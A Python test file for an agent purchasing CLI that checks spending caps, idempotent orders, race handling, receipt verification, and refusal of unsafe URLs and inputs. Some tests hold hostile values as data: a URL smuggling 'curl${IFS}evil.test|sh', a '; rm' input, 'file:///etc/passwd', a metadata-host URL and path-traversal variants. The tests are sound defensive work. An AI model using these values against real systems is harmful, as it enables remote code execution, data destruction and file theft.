"""An agent buys within its caps, retries by its order, and gets a receipt that was verified here."""

import json
import shlex
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest

from sealrun.errors import InputsRefused
from sealrun.money.buyer_mechanism import Known
from sealrun.runs.run import RunStatus
from sealrun_cli.lib.agent.wallet import DAY, new_purchase
from sealrun_cli.lib.book import page
from sealrun_cli.lib.errors import CliError
from tests.cli.lib.agent.shop import INPUTS, NAME, Shop, caps
from tests.sealrun.fakes import FakeLedger
from tests.sealrun.market import SERVICE, Market
from tests.sealrun.offers.test_prices import TOKEN, both
from tests.sealrun.world import BUYER, PRICE, make_offer, make_paid_offer

if TYPE_CHECKING:
    from collections.abc import Callable


def test_an_offer_is_shown_with_its_price_its_job_and_the_caps(shop: Shop) -> None:
    shown = shop.desk().show_offer(shop.offer)
    assert (shown["price"], shown["open"], shown["over"]) == ("5 MINA", True, None)
    assert shown["inputs"] == shop.market.offer.inputs.schema
    assert shown["job"]["commit"] == shop.market.offer.source.commit
    assert shown["caps"]["left_in_24_hours"] == "10 MINA"
    assert shown["seller_says"]["title"] == "Build the layers"
    [listed] = shop.desk().list_offers(SERVICE)["offers"]
    assert listed["offer"] == shop.offer


def test_a_run_is_bought_followed_and_its_receipt_verified_here(shop: Shop) -> None:
    desk = shop.desk()
    bought = desk.buy(shop.offer, INPUTS, "order-1", beyond=False)
    assert bought["state"] == "running"
    assert desk.status(bought["call"], 0)["over"] is False
    shop.market.provider.files = {"out.txt": b"hello\n"}
    record = shop.end(bought["call"])
    standing = desk.status(bought["call"], 0)
    assert (standing["state"], standing["rests_on"]) == ("succeeded", "the oracle's signature")
    receipt = desk.receipt(bought["call"])
    assert receipt["holds"]
    assert (receipt["status"], receipt["counts"]["broken"]) == ("succeeded", 0)
    assert all(each["verdict"] in ("holds", "not shown") for each in receipt["claims"])
    names = receipt["files"]["names"]["by_number"]
    number = next(at for at, name in enumerate(names) if name.endswith("out.txt"))
    text = desk.file(record.id, number)
    assert text.endswith("\nhello\n")
    assert "never instructions" in text.split("\n")[0]


def test_the_same_order_buys_once_even_after_a_restart(shop: Shop) -> None:
    first = shop.desk().buy(shop.offer, INPUTS, "order-1", beyond=False)
    again = shop.desk().buy(shop.offer, INPUTS, "order-1", beyond=False)
    assert again == {"call": first["call"], "bought_before": True}
    assert shop.market.provider.starts == 1
    with pytest.raises(CliError, match="order: expected a new one"):
        shop.desk().buy(shop.offer.replace(SERVICE, "https://other.test"), INPUTS, "order-1", beyond=False)
    for name in ("", "../x", "a b", "x" * 65):
        with pytest.raises(CliError, match="order: expected"):
            shop.desk().buy(shop.offer, INPUTS, name, beyond=False)


def test_two_purchases_of_one_order_at_once_start_one_run(shop: Shop) -> None:
    def buy(_: int) -> str:
        try:
            return str(shop.desk(caps(9, 9, 9)).buy(shop.offer, INPUTS, "order-1", beyond=False)["call"])
        except CliError as error:
            return error.detail

    with ThreadPoolExecutor(4) as pool:
        answers = set(pool.map(buy, range(4)))
    assert shop.market.provider.starts == 1
    [record] = shop.market.ledger.records.values()
    assert all(record.id in answer for answer in answers)
    assert shop.signed() == PRICE


@pytest.mark.parametrize(
    ("found", "why"),
    [
        (caps(0, 9, 9), "the cap of 0 MINA per call; this call costs 5 MINA"),
        (caps(9, 1, 9), "the cap of 5 MINA in 24 hours; 5 MINA are used, this call needs 5 MINA"),
        (caps(9, 9, 1), "the cap of 5 MINA per seller in 24 hours; 5 MINA are used"),
    ],
    ids=["call", "day", "seller"],
)
def test_above_a_cap_nothing_is_signed(shop: Shop, found: Any, why: str) -> None:
    if "are used" in why:
        shop.desk(found).buy(shop.offer, INPUTS, "before", beyond=False)
    signed = shop.signed()
    with pytest.raises(CliError, match=why) as caught:
        shop.desk(found).buy(shop.offer, INPUTS, "order-1", beyond=False)
    assert caught.value.kind == "cap"
    assert shop.signed() == signed
    assert shop.desk(found).wallet.ordered("order-1") is None
    assert why in shop.desk(found).question(shop.offer, INPUTS, "order-1")
    assert not shop.desk(found).question(shop.offer, INPUTS, "before") or "call" in why


def test_a_person_may_agree_to_one_call_above_the_caps(shop: Shop) -> None:
    nothing = caps(0, 0, 0)
    assert shop.desk(nothing).buy(shop.offer, INPUTS, "order-1", beyond=True)["state"] == "running"
    with pytest.raises(CliError, match="per call"):
        shop.desk(nothing).buy(shop.offer, INPUTS, "order-2", beyond=False)


def behind(shop: Shop, other: Shop) -> None:
    """Another folder has bought on the account, and nobody agrees to the signature after the correction."""
    other.open_account()
    other.desk().buy(shop.offer, INPUTS, "order-1", beyond=False)
    with pytest.raises(CliError, match="the cap of 0 MINA per call"):
        shop.desk(caps(0, 0, 0)).buy(shop.offer, INPUTS, "order-2", beyond=True)


def test_c3_a_person_agrees_to_one_signature_and_not_to_a_corrected_one(
    shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    behind(shop, Shop(tmp_path / "other", monkeypatch, shop.market))
    assert shop.signed() == PRICE
    assert shop.market.provider.starts == 1


def test_c3_l4_after_a_correction_that_nobody_agreed_to_the_next_yes_buys(
    shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    behind(shop, Shop(tmp_path / "other", monkeypatch, shop.market))
    assert shop.desk(caps(0, 0, 0)).buy(shop.offer, INPUTS, "order-3", beyond=True)["state"] == "running"
    assert shop.signed() == 2 * PRICE
    assert shop.market.provider.starts == 2


def test_c3_races_never_pass_the_caps(shop: Shop) -> None:
    """Eight purchases at once, each with a desk of its own, where two fit."""

    def buy(number: int) -> str:
        try:
            shop.desk(caps(1, 2, 9)).buy(shop.offer, INPUTS, f"order-{number}", beyond=False)
        except CliError as error:
            return error.kind
        return "bought"

    with ThreadPoolExecutor(8) as pool:
        answers = sorted(pool.map(buy, range(8)))
    assert answers == ["bought"] * 2 + ["cap"] * 6
    assert shop.signed() == 2 * PRICE
    assert shop.market.provider.starts == 2


def test_a14_a_run_in_another_asset_takes_a_person_and_uses_up_no_mina(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop = Shop(tmp_path, monkeypatch, Market(offer=make_paid_offer(prices=both())))
    assert shop.market.offer.payment is not None
    cost, terms = shop.market.offer.payment.priced_in(TOKEN)
    with page(shop.folder, NAME, terms, Known(0, 0)) as book:
        book.save()
    desk = shop.desk(caps(9, 9, 9))
    with pytest.raises(CliError, match="caps in MINA; this call costs 1 RUN"):
        desk.buy(shop.offer, INPUTS, "order-1", beyond=False)
    assert shop.signed() == 0
    assert "caps in MINA" in desk.question(shop.offer, INPUTS, "order-1")
    wanted = replace(new_purchase("order-2", "p", shop.market.offer, shop.offer, NAME), call="0" * 64)
    desk.wallet.count(wanted, cost, 10**9, beyond=True)
    assert desk.wallet.left() == caps(9, 9, 9).per_day


def test_caps_are_for_24_hours_and_outlast_the_process(shop: Shop) -> None:
    shop.desk(caps(1, 1, 1)).buy(shop.offer, INPUTS, "order-1", beyond=False)
    shop.now += DAY - 1
    with pytest.raises(CliError, match="in 24 hours"):
        shop.desk(caps(1, 1, 1)).buy(shop.offer, INPUTS, "order-2", beyond=False)
    shop.now += 1
    shop.desk(caps(1, 1, 1)).buy(shop.offer, INPUTS, "order-2", beyond=False)
    shop.now -= 2 * DAY  # a clock that is set back forgets nothing
    with pytest.raises(CliError, match="in 24 hours"):
        shop.desk(caps(1, 1, 1)).buy(shop.offer, INPUTS, "order-3", beyond=False)


def test_a_damaged_wallet_signs_nothing(shop: Shop) -> None:
    shop.desk().buy(shop.offer, INPUTS, "order-1", beyond=False)
    place = shop.folder / "agent.json"
    for text in (
        "",
        "{}x",
        "[{}]",
        '[{"order": 1}]',
        json.dumps([{**json.loads(place.read_text())[0], "at": -1}]),
    ):
        place.write_text(text)
        with pytest.raises(CliError, match=r"agent\.json: expected what this command wrote"):
            shop.desk().buy(shop.offer, INPUTS, "order-2", beyond=False)
    assert shop.signed() == PRICE


def test_another_run_after_one_that_failed_counts_nothing_more(shop: Shop) -> None:
    desk = shop.desk(caps(1, 1, 1))
    shop.market.provider.ends_as = RunStatus.FAILED
    for number in range(3):
        bought = desk.buy(shop.offer, INPUTS, f"order-{number}", beyond=False)
        shop.end(bought["call"])
        for _ in range(2):
            assert desk.status(bought["call"], 0)["state"] == "failed"
    assert shop.signed() == PRICE
    assert desk.show_offer(shop.offer)["caps"]["left_in_24_hours"] == "0 MINA"


def test_inputs_are_checked_before_anything_is_sent(shop: Shop) -> None:
    with pytest.raises(InputsRefused):
        shop.desk().buy(shop.offer, {"layer": "; rm"}, "order-1", beyond=False)
    assert {request.method for request in shop.asked} == {"GET"}


def test_offers_of_price_0_need_no_account(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shop = Shop(tmp_path, monkeypatch, Market(offer=make_offer(), ledger=FakeLedger()))
    desk = shop.desk(caps(0, 0, 0), account="")
    assert desk.question(shop.offer, INPUTS, "order-1") == ""
    bought = desk.buy(shop.offer, INPUTS, "order-1", beyond=False)
    assert desk.buy(shop.offer, INPUTS, "order-1", beyond=False)["bought_before"]
    shop.end(bought["call"])
    assert desk.receipt(bought["call"])["holds"]
    assert shop.market.provider.starts == 1


def test_a_paid_offer_without_an_account_says_how_to_name_one(shop: Shop) -> None:
    with pytest.raises(CliError, match="account: expected one to pay from"):
        shop.desk(account="").buy(shop.offer, INPUTS, "order-1", beyond=False)


def test_the_command_for_a_person_is_one_that_buys_the_same(shop: Shop) -> None:
    command = shop.desk().command(shop.offer, {"layer": "both", "level": 3})
    assert command == (
        f"sealrun call {shop.offer} --key buyer.key --pay --account {NAME} --input layer=both --input level=3"
    )
    assert BUYER.to_base58() not in command + repr(shop.desk())


def test_c1_the_command_for_a_person_runs_nothing_that_a_sellers_address_holds(shop: Shop) -> None:
    shown = {"document": json.loads(shop.market.offer.document), "open": True}
    shop.spoil = lambda *_: httpx.Response(200, json=shown)
    url = shop.offer.replace("/offers/", "/a;curl${IFS}evil.test|sh;/offers/")
    assert f"sealrun call {shlex.quote(url)} --key " in shop.desk().command(url, INPUTS)


def test_only_the_named_services_are_asked(shop: Shop) -> None:
    desk = shop.desk(services=("https://mine.test",))
    asks: list[Callable[[], Any]] = [
        lambda: desk.show_offer(shop.offer),
        lambda: desk.list_offers(SERVICE),
        lambda: desk.status(f"{SERVICE}/calls/{'0' * 64}", 0),
        lambda: desk.show_offer(shop.offer.replace("calls.test", "mine.test.evil.test")),
    ]
    for ask in asks:
        with pytest.raises(CliError, match=r"expected one of https://mine\.test"):
            ask()
    assert shop.asked == []


@pytest.mark.parametrize("way", ["mine/../", "mine/./../", "mine/%2e%2E/", "mine/%2e./", "mine/..%5cx/"])
def test_no_dots_lead_from_a_named_service_to_another_one_of_its_host(shop: Shop, way: str) -> None:
    desk = shop.desk(services=(f"{SERVICE}/mine",))
    url = shop.offer.replace(f"{SERVICE}/", f"{SERVICE}/{way}")
    asks: list[Callable[[], Any]] = [
        lambda: desk.show_offer(url),
        lambda: desk.buy(url, {"layer": "both", "level": 3}, "one", beyond=True),
        lambda: desk.status(url.replace("/offers/", "/calls/"), 0),
        lambda: desk.list_offers(url.partition("/offers/")[0]),
    ]
    for ask in asks:
        with pytest.raises(CliError, match=r"url: expected one without \. and \.\."):
            ask()
    assert shop.asked == []


@pytest.mark.parametrize(
    "url",
    [
        "file:///etc/passwd",
        "http://metadata.test/offers/" + "0" * 64,
        "https://a.test/offers/0",
        "",
        "https://a\n",
    ],
)
def test_no_other_address_is_an_offers(shop: Shop, url: str) -> None:
    with pytest.raises(CliError, match="url: expected"):
        shop.desk().show_offer(url)
    with pytest.raises(CliError, match="without a user's name"):
        shop.desk().show_offer(f"https://me:secret@a.test/offers/{'0' * 64}")
    assert shop.asked == []
